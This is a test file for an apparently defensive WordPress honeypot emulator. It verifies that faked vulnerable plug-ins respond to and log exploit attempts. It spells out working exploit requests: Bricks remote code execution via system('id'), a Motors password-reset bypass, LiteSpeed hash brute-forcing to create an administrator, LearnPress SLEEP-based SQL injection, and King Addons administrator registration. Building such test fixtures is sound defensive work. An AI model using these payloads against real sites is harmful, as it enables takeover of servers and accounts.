import { afterEach, describe, expect, it } from 'vitest'
import wordpress from '../../../src/emulators/wordpress/index.ts'
import { type Playing, play } from '../../harness.ts'
import { type Asking, ask, type Reply } from '../../http/ask.ts'
import { MemoryHosts } from '../../http/memory-hosts.ts'

let playing: Playing | undefined
afterEach(async () => {
  await playing?.stop()
  playing = undefined
})

async function blog(vulnerable: readonly string[]): Promise<Playing> {
  const options = { login: { accept: [{ user: 'admin', password: 'right' }], policy: 'list' }, vulnerable }
  const limits = { connectionsPerSource: 400, connections: 400 }
  playing = await play(wordpress, {
    persona: 'plain',
    prompts: 'test/fixtures/prompts',
    hosts: new MemoryHosts(),
    options,
    settings: { limits },
  })
  return playing
}

const json = (value: unknown): Asking => ({ headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(value) })
const form = (fields: Record<string, string>): Asking => ({
  headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
  body: new URLSearchParams(fields).toString(),
})
const signIn = (p: Playing, log: string, pwd: string): Promise<Reply> => ask(p, 'POST', '/wp-login.php', form({ log, pwd }))
const cves = (p: Playing): string[] =>
  p.events.filter(({ type }) => type === 'wordpress.exploit').flatMap(({ tags = [] }) => tags.filter((tag) => tag.startsWith('cve:')))

describe('themes', () => {
  it('are those of the release, and no others', async () => {
    const p = await blog([])
    const versionOf = async (slug: string): Promise<string | undefined> =>
      /^Version: (\S+)$/m.exec((await ask(p, 'GET', `/wp-content/themes/${slug}/style.css`)).body)?.[1]
    expect(await Promise.all(['twentytwentyfive', 'twentytwentyfour', 'bricks', 'zz-none'].map(versionOf))).toEqual([
      '1.3',
      '1.3',
      undefined,
      undefined,
    ])
    expect((await ask(p, 'GET', '/')).body).toContain('/wp-content/themes/twentytwentyfive/style.css?ver=1.3')
    expect(p.data('wordpress.probe').map(({ kind, name, found }) => `${kind} ${name} ${found}`)).toEqual(
      expect.arrayContaining(['theme twentytwentyfour true', 'theme bricks false', 'theme zz-none false']),
    )
  })
})

describe('Bricks (CVE-2024-25600)', () => {
  const queryEditor = 'ob_start();echo `id`;$output=ob_get_contents();ob_end_clean();throw new Exception($output);'
  it.each([
    ['its query', { name: 'container', settings: { hasLoop: 'true', query: { useQueryEditor: true, queryEditor, objectType: 'post' } } }],
    ['its code', { name: 'code', settings: { executeCode: 'true', code: "<?php throw new Exception(`id` . 'END'); ?>" } }],
    ['what it prints', { name: 'code', settings: { executeCode: 'true', code: "<?php echo 'Exception: '; system('id') ?>" } }],
  ])('runs %s with the nonce of the page, as its scanners ask', async (_what, element) => {
    const p = await blog(['bricks'])
    const front = (await ask(p, 'GET', '/')).body
    const [, nonce] = /<script id="bricks-scripts-js-extra"[^>]*>[\s\S]*?"nonce":"([a-f0-9]+)"/.exec(front)!
    for (const path of ['/wp-json/bricks/v1/render_element', '/?rest_route=/bricks/v1/render_element']) {
      const reply = await ask(p, 'POST', path, json({ postId: '1', nonce, element }))
      const { data } = JSON.parse(reply.body) as { data: { html: string } }
      expect(data.html).toMatch(/^Exception: ran cd '\/var\/www\/wordpress' && id as www-data/)
    }
    expect(cves(p)).toEqual(['cve:CVE-2024-25600', 'cve:CVE-2024-25600'])
    expect((await ask(p, 'GET', '/wp-content/themes/bricks/style.css')).body).toContain('Version: 1.9.6\n')
    expect((await ask(p, 'GET', '/wp-json/')).body).toContain('bricks\\/v1')
    expect(p.data('lure.fault')).toEqual([])
  })

  it('is nowhere else', async () => {
    const p = await blog([])
    const element = { name: 'code', settings: { executeCode: 'true', code: '<?php echo 1; ?>' } }
    expect((await ask(p, 'POST', '/wp-json/bricks/v1/render_element', json({ element }))).status).toBe(404)
    expect(cves(p)).toEqual([])
  })
})

describe('Motors (CVE-2025-4322)', () => {
  it('gives the administrator the password that an attacker wants, for that attacker', async () => {
    const p = await blog(['motors'])
    const refused = await ask(p, 'POST', '/login-register/?user_id=1&hash_check=abc', form({ stm_new_password: 'Testtest123' }))
    expect(refused.status).toBe(500)
    const reply = await ask(p, 'POST', '/login-register/?user_id=1&hash_check=%C0', form({ stm_new_password: 'Testtest123' }))
    expect([reply.status, reply.body.includes('Password changed successfully')]).toEqual([200, true])
    expect((await signIn(p, 'admin', 'Testtest123')).header('location')).toBe('http://www.test.lan/wp-admin/')
    expect(p.data('login')[0]).toMatchObject({ method: 'reset', username: 'admin', password: 'Testtest123' })
    expect(cves(p)).toEqual(['cve:CVE-2025-4322', 'cve:CVE-2025-4322'])
  })
})

describe('plug-ins', () => {
  it('LiteSpeed Cache takes who guesses its hash for the administrator, who makes an account (CVE-2024-28000)', async () => {
    const p = await blog(['litespeed-cache'])
    const account = { username: 'mallory', password: 'Pw-123', email: 'm@evil.example', roles: ['administrator'] }
    const statuses = new Set<number>()
    for (let n = 0; n < 2_000 && !statuses.has(201); n += 20) {
      const guesses = Array.from({ length: 20 }, (_, i) => (n + i).toString(36).padStart(6, 'a'))
      const replies = await Promise.all(
        guesses.map((hash) =>
          ask(p, 'POST', '/wp-json/wp/v2/users', {
            ...json(account),
            headers: { 'Content-Type': 'application/json', Cookie: `litespeed_role=1; litespeed_hash=${hash}` },
          }),
        ),
      )
      for (const { status } of replies) statuses.add(status)
    }
    expect(statuses).toEqual(new Set([401, 201]))
    expect((await signIn(p, 'mallory', 'Pw-123')).header('location')).toBe('http://www.test.lan/wp-admin/')
    expect(p.data('login').map(({ method, username }) => `${method} ${username}`)).toEqual(['account mallory', 'form mallory'])
  }, 30_000)

  it('LearnPress sleeps as long as its columns say (CVE-2024-8522, CVE-2024-8529)', async () => {
    const p = await blog(['learnpress'])
    const timed = async (query: string): Promise<number> => {
      const startedAt = performance.now()
      expect((await ask(p, 'GET', `/wp-json/learnpress/v1/courses?${query}`)).body).toBe('[]')
      return performance.now() - startedAt
    }
    expect(await timed('c_only_fields=IF(COUNT(*)!=-2,(SLEEP(1)),0)')).toBeGreaterThan(990)
    expect(await timed('c_fields=IF(1=2,SLEEP(9),0)')).toBeLessThan(5_000)
    await timed('c_only_fields=ID,post_title')
    expect(cves(p)).toEqual(['cve:CVE-2024-8522', 'cve:CVE-2024-8529', 'cve:CVE-2024-8522'])
    expect(p.data('wordpress.exploit').map(({ worked }) => worked)).toEqual([true, true, false])
  })

  it('King Addons answers its own form, whose nonce the page has (CVE-2025-8489)', async () => {
    const p = await blog(['king-addons'])
    const [, nonce = ''] = /king_addons_login_register_vars = \{[^}]*"register_nonce":"([a-f0-9]{10})"/.exec(
      (await ask(p, 'GET', '/')).body,
    )!
    const fields = { action: 'king_addons_user_register', nonce, email: 'm@x.example', username: 'mallory', user_role: 'administrator' }
    const send = async (more: Record<string, string>): Promise<Reply> =>
      ask(p, 'POST', '/wp-admin/admin-ajax.php', form({ ...fields, ...more }))
    expect((await send({ password: 'Pw-1', confirm_password: 'Pw-2' })).body).toBe(
      '{"success":false,"data":{"message":"Passwords do not match."}}',
    )
    expect((await send({ password: 'Pw-1', confirm_password: 'Pw-1' })).body).toBe(
      '{"success":true,"data":{"message":"Registration successful! Please log in.","redirect":false,"auto_login":false}}',
    )
    const signedIn = await send({ password: 'Pw-1', confirm_password: 'Pw-1', auto_login_after_register: 'yes' })
    expect(signedIn.head).toMatch(/Set-Cookie: wordpress_logged_in_[0-9a-f]{32}=mallory%7C/)
    expect(p.data('wordpress.exploit').map(({ worked }) => worked)).toEqual([false, true, true])
  })
})
